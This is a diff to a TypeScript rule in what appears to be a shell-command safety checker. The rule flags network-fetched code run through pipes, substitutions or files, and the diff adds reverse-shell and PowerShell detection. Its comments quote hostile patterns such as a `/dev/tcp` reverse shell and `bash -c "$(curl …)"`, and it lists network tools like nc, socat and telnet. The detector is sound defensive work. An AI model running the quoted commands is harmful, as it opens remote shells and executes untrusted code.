@@ -1,23 +1,21 @@
-import { unknown } from "../expand-word.ts";
+import { type Field, unknown } from "../expand-word.ts";
 import { argumentsOf, type FoundCommand, operandsOf } from "../found-command.ts";
-import { readsInput } from "../script-on-input.ts";
+import { takesCodeFromInput } from "../hidden-code.ts";
 import type { Script, Stage } from "../syntax.ts";
-import { interpreters, shells } from "../wrappers.data.ts";
+import { interpreterOf, shells } from "../wrappers.data.ts";
 import type { CriticalRule } from "./critical.ts";
 import { pathOf, writtenFiles } from "./paths.ts";
 
 /** Code from the network that is run unseen: through a pipe, a substitution or a file. */
 export const runsFetchedScript: CriticalRule = (command, all) =>
-	(takesCodeFromInput(command) && isFed(command)) || runsFetchedText(command) || runsFetchedFile(command, all);
+	((takesCodeFromInput(command) || takesLineFromInput(command)) && isFed(command)) ||
+	isShellOnNetwork(command) ||
+	runsFetchedText(command) ||
+	runsFetchedFile(command, all);
 
-function takesCodeFromInput(command: FoundCommand): boolean {
-	if (readsInput(command)) return true;
-	// As `xargs bash -c` completes it.
-	if (shells.has(command.name) && /^-\w*c$/.test(argumentsOf(command).at(-1) ?? "")) return true;
-	const code = interpreters[command.name];
-	if (!code) return false;
-	const args = argumentsOf(command);
-	return args.every((text) => text === "-" || text === "/dev/stdin" || /^-[uBsSE]$/.test(text));
+/** As `xargs bash -c` completes it. */
+function takesLineFromInput(command: FoundCommand): boolean {
+	return shells.has(command.name) && /^-\w*c$/.test(argumentsOf(command).at(-1) ?? "");
 }
 
 function isFed(command: FoundCommand): boolean {
@@ -25,21 +23,43 @@ function isFed(command: FoundCommand): boolean {
 	return command.pipedFrom.some(isFetcher) || input.some(({ target }) => target.scripts.some(fetches));
 }
 
+/** `bash -i >& /dev/tcp/host/port 0>&1`. */
+function isShellOnNetwork(command: FoundCommand): boolean {
+	const isShell = shells.has(command.name) || command.name === "exec" || takesCodeFromInput(command);
+	return isShell && command.redirections.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text));
+}
+
 /** `bash -c "$(curl …)"`, `eval "$(curl …)"`, `source <(curl …)`, `bash <(curl …)`. */
 function runsFetchedText(command: FoundCommand): boolean {
-	const runs =
-		shells.has(command.name) || command.name in interpreters || ["eval", "source", "."].includes(command.name);
-	return runs && command.fields.slice(1).some(({ scripts }) => scripts.some(fetches));
+	const isCode =
+		shells.has(command.name) || interpreterOf(command.name) || ["eval", "source", "."].includes(command.name);
+	if (/^(?:pwsh|powershell)$/.test(command.name)) return fetchesInPowerShell.test(argumentsOf(command).join(" "));
+	if (!isCode) return false;
+	if (command.fields.slice(1).some(({ scripts }) => scripts.some(fetches))) return true;
+	return command.name === "deno" && operandsOf(command).some(({ text }) => /^https?:/.test(text));
 }
 
 function runsFetchedFile(command: FoundCommand, all: readonly FoundCommand[]): boolean {
-	const runs = shells.has(command.name) || command.name in interpreters || ["source", "."].includes(command.name);
+	const paths = filesRun(command).flatMap((file) => pathOf(file, { cwd: command.cwd ?? "/" }) ?? []);
+	if (paths.length === 0) return false;
+	const before = all
+		.slice(0, all.indexOf(command))
+		.filter((other) => isFetcher(other) || other.pipedFrom.some(isFetcher));
+	return before.some((other) => savedAs(other).some((path) => paths.includes(path)));
+}
+
+const fetchesInPowerShell = /\b(?:iex|Invoke-Expression)\b/i;
+
+/** As a script, on the input, or by `cat` before a pipe. */
+function filesRun(command: FoundCommand): Pick<Field, "text">[] {
 	const [name] = command.fields;
-	const script = runs ? operandsOf(command)[0] : name?.text.includes("/") ? name : undefined;
-	const path = script && pathOf(script, { cwd: command.cwd ?? "/" });
-	if (path === undefined) return false;
-	const before = all.slice(0, all.indexOf(command));
-	return before.some((other) => isFetcher(other) && savedAs(other).includes(path));
+	const isCode = shells.has(command.name) || interpreterOf(command.name) || ["source", "."].includes(command.name);
+	if (!isCode) return name?.text.includes("/") ? [name] : [];
+	const input = command.redirections.filter(({ operator }) => operator === "<").map(({ target }) => target);
+	const piped = takesCodeFromInput(command)
+		? command.pipedFrom.filter(({ name }) => name === "cat").flatMap(operandsOf)
+		: [];
+	return [...operandsOf(command).slice(0, 1), ...input, ...piped];
 }
 
 function savedAs(command: FoundCommand): string[] {
@@ -55,7 +75,8 @@ function savedAs(command: FoundCommand): string[] {
 	const remote = operandsOf(command).flatMap(({ text }) =>
 		/^[a-z]+:\/\/.*\/[^/]+$/.test(text) ? [{ text: text.replace(/[?#].*$/, "").replace(/^.*\//, "") }] : [],
 	);
-	return [...named, ...joined, ...writtenFiles(command), ...remote].flatMap(
+	const copied = command.name === "tee" || command.name === "scp" ? operandsOf(command) : [];
+	return [...named, ...joined, ...writtenFiles(command), ...copied, ...remote].flatMap(
 		(field) => pathOf(field, { cwd: command.cwd ?? "/" }) ?? [],
 	);
 }
@@ -73,6 +94,9 @@ const fetchers = new Set([
 	"GET",
 	"nc",
 	"ncat",
+	"scp",
+	"socat",
+	"telnet",
 ]);
 
 function isFetcher(command: FoundCommand): boolean {
